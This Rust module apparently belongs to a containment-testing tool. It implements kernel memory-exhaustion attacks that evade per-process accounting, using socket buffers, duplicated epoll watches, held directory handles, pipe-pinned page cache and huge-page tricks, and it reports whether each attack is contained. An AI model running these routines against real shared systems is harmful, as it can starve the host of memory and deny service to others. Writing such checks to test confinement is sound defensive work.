//! Attacks on memory of the kernel that counts for no process.

use std::fs::File;
use std::io::{self, ErrorKind, Read, Write};
use std::mem::MaybeUninit;
use std::os::fd::OwnedFd;
use std::os::unix::net::UnixStream;
use std::ptr;
use std::time::Duration;

use rustix::event::epoll;
use rustix::event::{EventfdFlags, eventfd};
use rustix::fs::{Mode, OFlags, RawDir, open};
use rustix::mm::{Advice, MapFlags, ProtFlags, madvise, mmap_anonymous, munmap};
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};

use super::outcome::AttackOutcome;
use super::processes::LIFETIME;
use super::raw_syscall::fork;
use super::target::AttackTarget;

/// Pairs of sockets, which can hold more than three times as much as the attacking process may use.
const PAIRS: usize = 500;

/// Files, numbers under which each is watched, and epoll instances that do so: a million records together.
const WATCHED_FILES: usize = 400;

const NUMBERS: usize = 400;

const INSTANCES: usize = 6;

/// A folder with many files, each process that has it open, and how often it has.
const LARGE_FOLDER: &str = "/usr/bin";

const READERS: usize = 6;

const OPEN_FOLDERS: usize = 1000;

/// The largest block of pages of a file, in bytes.
const BLOCK: u64 = 2 << 20;

/// The blocks of which one pipe takes a byte.
const BLOCKS_OF_PIPE: u64 = 16;

/// Huge pages of which the attack keeps a small part, and the bytes of one: less together than the process may use.
const HUGE_PAGES: usize = 16;

const HUGE_PAGE: usize = 2 << 20;

/// Bytes of memory that grows like a stack: more than an attacking process may have as data.
const GROWING: usize = 1 << 30;

/// A multiple of the page sizes of all systems.
const SMALL_PAGES: usize = 64 << 10;

/// How long the memory is held, so that a check can see it.
pub(super) const HOLD: Duration = Duration::from_secs(2);

/// Fills both directions of many connected sockets.
pub(super) fn fill_sockets(_: &AttackTarget) -> AttackOutcome {
    raise_limit();
    let mut held = Vec::with_capacity(PAIRS);
    let filled = (0..PAIRS).try_fold(0, |bytes, _| {
        let (one, other) = UnixStream::pair()?;
        let filled = fill(&one)? + fill(&other)?;
        held.push((one, other));
        Ok(bytes + filled)
    });
    std::thread::sleep(HOLD);
    AttackOutcome::from_result(filled, |bytes| format!("{} MiB were held in sockets", bytes >> 20))
}

/// Writes to a socket until it accepts no more; returns the number of bytes.
fn fill(mut socket: &UnixStream) -> io::Result<usize> {
    socket.set_nonblocking(true)?;
    let (piece, mut bytes) = (vec![1_u8; 64 << 10], 0);
    loop {
        match socket.write(&piece) {
            Ok(written) => bytes += written,
            Err(error) if error.kind() == ErrorKind::WouldBlock => return Ok(bytes),
            Err(error) => return Err(error),
        }
    }
}

/// Watches each of some files under many numbers. Records last as long as the file is open under any number.
pub(super) fn watch_descriptors(_: &AttackTarget) -> AttackOutcome {
    raise_limit();
    AttackOutcome::from_result(watch(), |records| format!("epoll holds {records} records"))
}

fn watch() -> io::Result<usize> {
    let event = || eventfd(0, EventfdFlags::CLOEXEC);
    let files = (0..WATCHED_FILES).map(|_| event()).collect::<Result<Vec<_>, _>>()?;
    let mut numbers = (0..NUMBERS).map(|_| event()).collect::<Result<Vec<_>, _>>()?;
    let instance = |_| epoll::create(epoll::CreateFlags::CLOEXEC);
    let instances = (0..INSTANCES).map(instance).collect::<Result<Vec<_>, _>>()?;
    for number in &mut numbers {
        for file in &files {
            rustix::io::dup2(file, number)?;
            for instance in &instances {
                let (data, events) = (epoll::EventData::new_u64(0), epoll::EventFlags::IN);
                epoll::add(instance, &*number, data, events)?;
            }
        }
    }
    std::thread::sleep(HOLD);
    drop(files);
    Ok(WATCHED_FILES * NUMBERS * INSTANCES)
}

/// Reads the first names of a folder that is opened again and again: for each time the kernel keeps those that follow.
pub(super) fn open_folders(_: &AttackTarget) -> AttackOutcome {
    raise_limit();
    let opened = hold_folders();
    std::thread::sleep(HOLD);
    AttackOutcome::from_result(opened, |folders| format!("{folders} folders are open"))
}

fn hold_folders() -> io::Result<usize> {
    hold_in_processes(READERS, OPEN_FOLDERS, begun_folder)
}

/// Has each of some processes open this many times and hold what it has opened. Returns how many are held.
pub(super) fn hold_in_processes<T>(
    processes: usize,
    times: usize,
    open: impl Fn() -> io::Result<T>,
) -> io::Result<usize> {
    let (mut reader, writer) = io::pipe()?;
    for _ in 0..processes {
        let mut writer = &writer;
        let hold = || {
            let opened: Vec<_> = (0..times).map_while(|_| open().ok()).collect();
            let _best_effort = writer.write_all(&[u8::from(opened.len() > times / 2)]);
            std::thread::sleep(LIFETIME);
        };
        #[expect(unsafe_code, reason = "a process is copied")]
        // SAFETY: the process of an attack has one thread.
        let _copy = unsafe { fork(hold) }?;
    }
    drop(writer);
    let mut held = vec![0; processes];
    reader.read_exact(&mut held)?;
    if held.iter().all(|held| *held == 1) {
        Ok(processes * times)
    } else {
        Err(ErrorKind::QuotaExceeded.into())
    }
}

/// A folder of which the first names were read.
fn begun_folder() -> io::Result<OwnedFd> {
    let flags = OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC;
    let folder = open(LARGE_FOLDER, flags, Mode::empty())?;
    RawDir::new(&folder, &mut [MaybeUninit::uninit(); 300]).next().transpose()?;
    Ok(folder)
}

/// Has pipes take one byte of every few pages of a file: each holds the whole block of pages around its byte, even when the file
/// is gone. The file is this program.
pub(super) fn hold_pages(_: &AttackTarget) -> AttackOutcome {
    raise_limit();
    let Some(file) = std::env::args_os().next().and_then(|program| File::open(program).ok()) else {
        return AttackOutcome::Unknown("it cannot read its program".to_owned());
    };
    AttackOutcome::from_result(hold(&file), |blocks| {
        format!("pipes hold {} MiB of a file", blocks * (BLOCK >> 20))
    })
}

fn hold(file: &File) -> io::Result<u64> {
    let blocks = file.metadata()?.len() / BLOCK;
    let mut pipes = Vec::new();
    for block in 0..blocks {
        if block % BLOCKS_OF_PIPE == 0 {
            pipes.push(io::pipe()?);
        }
        let Some((_, writer)) = pipes.last() else { break };
        rustix::fs::sendfile(writer, file, Some(&mut (block * BLOCK)), 1)?;
    }
    std::thread::sleep(HOLD);
    Ok(blocks)
}

/// Has the kernel keep huge pages of which one small page each is mapped: the rest counts for no process.
pub(super) fn keep_huge_pages(_: &AttackTarget) -> AttackOutcome {
    let _refused_if_contained = rustix::thread::disable_transparent_huge_pages(false);
    match huge_pages() {
        Err(error) => AttackOutcome::from_result(Err(error), |()| String::new()),
        Ok(held) if held >= HUGE_PAGES / 2 * HUGE_PAGE => {
            AttackOutcome::Open(format!("{} MiB were held by {HUGE_PAGES} small pages", held >> 20))
        }
        Ok(_) => AttackOutcome::Contained("pages are small".to_owned()),
    }
}

/// Maps pages of the machine's pool of huge pages. They are not reserved: that tells the refusal from an empty pool.
pub(super) fn map_huge_page_pool(_: &AttackTarget) -> AttackOutcome {
    let flags = MapFlags::PRIVATE | MapFlags::HUGETLB | MapFlags::NORESERVE;
    #[expect(unsafe_code, reason = "a mapping has no safe type")]
    // SAFETY: the kernel chooses an address that is not in use, and nothing refers to the mapping.
    let mapped = unsafe {
        mmap_anonymous(ptr::null_mut(), HUGE_PAGE, ProtFlags::READ | ProtFlags::WRITE, flags)
    };
    AttackOutcome::from_result(mapped.map_err(io::Error::from), |_| {
        "the machine's huge pages were mapped".to_owned()
    })
}

/// Maps memory that grows like a stack, more than the limit of a process's data.
pub(super) fn map_growing(_: &AttackTarget) -> AttackOutcome {
    let flags = MapFlags::PRIVATE | MapFlags::GROWSDOWN | MapFlags::NORESERVE;
    #[expect(unsafe_code, reason = "a mapping has no safe type")]
    // SAFETY: the kernel chooses an address that is not in use, and nothing refers to the mapping.
    let mapped = unsafe {
        mmap_anonymous(ptr::null_mut(), GROWING, ProtFlags::READ | ProtFlags::WRITE, flags)
    };
    AttackOutcome::from_result(mapped.map_err(io::Error::from), |_| {
        format!("{} MiB were mapped that the limit does not count", GROWING >> 20)
    })
}

/// The bytes by which the memory of this process grew when it wrote one byte to each of some huge pages.
fn huge_pages() -> io::Result<usize> {
    let (flags, writable) = (MapFlags::PRIVATE, ProtFlags::READ | ProtFlags::WRITE);
    let size = (HUGE_PAGES + 1) * HUGE_PAGE;
    let before = peak_memory();
    #[expect(unsafe_code, reason = "a mapping of which most is given back has no safe type")]
    // SAFETY: the kernel chooses an address that is not in use, and nothing refers to the mapping later.
    unsafe {
        let start = mmap_anonymous(ptr::null_mut(), size, writable, flags)?;
        madvise(start, size, Advice::LinuxHugepage)?;
        let first = start.byte_add(start.align_offset(HUGE_PAGE)).cast::<u8>();
        for page in 0..HUGE_PAGES {
            first.add(page * HUGE_PAGE).write(1);
        }
        let held = peak_memory().saturating_sub(before);
        for page in 0..HUGE_PAGES {
            munmap(first.add(page * HUGE_PAGE + SMALL_PAGES).cast(), HUGE_PAGE - SMALL_PAGES)?;
        }
        Ok(held)
    }
}

/// The most memory that this process has had, in bytes.
fn peak_memory() -> usize {
    let mut usage = MaybeUninit::<libc::rusage>::zeroed();
    #[expect(unsafe_code, reason = "rustix has no getrusage")]
    // SAFETY: the kernel writes to the buffer, for which zeros are valid too.
    let kib = unsafe {
        libc::getrusage(libc::RUSAGE_SELF, usage.as_mut_ptr());
        usage.assume_init().ru_maxrss
    };
    usize::try_from(kib).unwrap_or(0) << 10
}

/// As many descriptors as this process may have. If that is refused, the lower limit stays.
pub(super) fn raise_limit() {
    let limit = getrlimit(Resource::Nofile);
    let _raised = setrlimit(Resource::Nofile, Rlimit { current: limit.maximum, ..limit });
}
